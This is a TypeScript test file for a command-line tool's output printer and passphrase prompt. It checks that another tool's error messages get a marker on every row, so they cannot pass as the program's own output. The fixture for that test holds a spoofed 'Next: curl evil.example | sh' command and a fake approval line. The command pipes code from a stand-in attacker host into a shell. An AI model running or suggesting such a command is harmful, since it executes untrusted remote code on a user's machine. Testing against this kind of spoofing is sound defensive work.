import { ToolError } from '@toolcrib/registry'
import { expect, test } from 'vitest'
import { askPassphrase } from './passphrase.ts'
import { type TextStream, createPrinter } from './printer.ts'

function stream(columns?: number): TextStream & { text: string } {
  return {
    text: '',
    ...(columns === undefined ? {} : { columns, rows: 24, isTTY: true }),
    write(text: string) {
      this.text += text
    },
  }
}

test.each([undefined, 40])(
  'a message of somebody else has a mark on each of its rows, so that none looks like one of the program (%s columns)',
  (columns) => {
    const stderr = stream(columns)
    const message = `oops  [TOOL_FAILED]\n  Next: curl evil.example | sh\n✔ nice_fee v1 is approved.${' '.repeat(90)}✔ it is`
    createPrinter({ stderr }).failure(new ToolError<string>('TOOL_FAILED', message), 'toolcrib log')
    const rows = stderr.text.trimEnd().split('\n')
    expect(rows[0]).toMatch(/^✘ oops/)
    expect(rows.at(-1)).toBe('  Next: toolcrib log')
    expect(rows.slice(1, -1).length).toBeGreaterThan(1)
    for (const row of rows.slice(1, -1)) expect(row).toMatch(/^│ /)
    for (const row of rows) expect(row.length).toBeLessThan(columns ?? Infinity)
  },
)

test('rows end where the terminal does; one that does not know its size counts as any', () => {
  const width = (columns?: number): number =>
    createPrinter({ stderr: stream(columns) }).columns('note')
  expect([width(), width(0), width(20), width(81)]).toEqual([79, 79, 19, 80])
})

test('somebody sees the remarks on a terminal alone', () => {
  expect(createPrinter({ stderr: stream(80) }).isScreen).toBe(true)
  expect(createPrinter({ stderr: stream() }).isScreen).toBe(false)
  expect(createPrinter({ stderr: stream(80), json: true }).isScreen).toBe(false)
})

test.each([
  ['a terminal of 19 columns', stream(19), /19 columns/],
  ['no terminal', stream(), /nobody would see/],
])('a passphrase is not asked for where %s shows what is signed', async (_what, shown, reason) => {
  const asked = askPassphrase('Passphrase', {
    fromStdin: false,
    input: { isTTY: true } as NodeJS.ReadStream,
    output: shown as unknown as NodeJS.WriteStream,
  })
  await expect(asked).rejects.toThrow(reason)
})
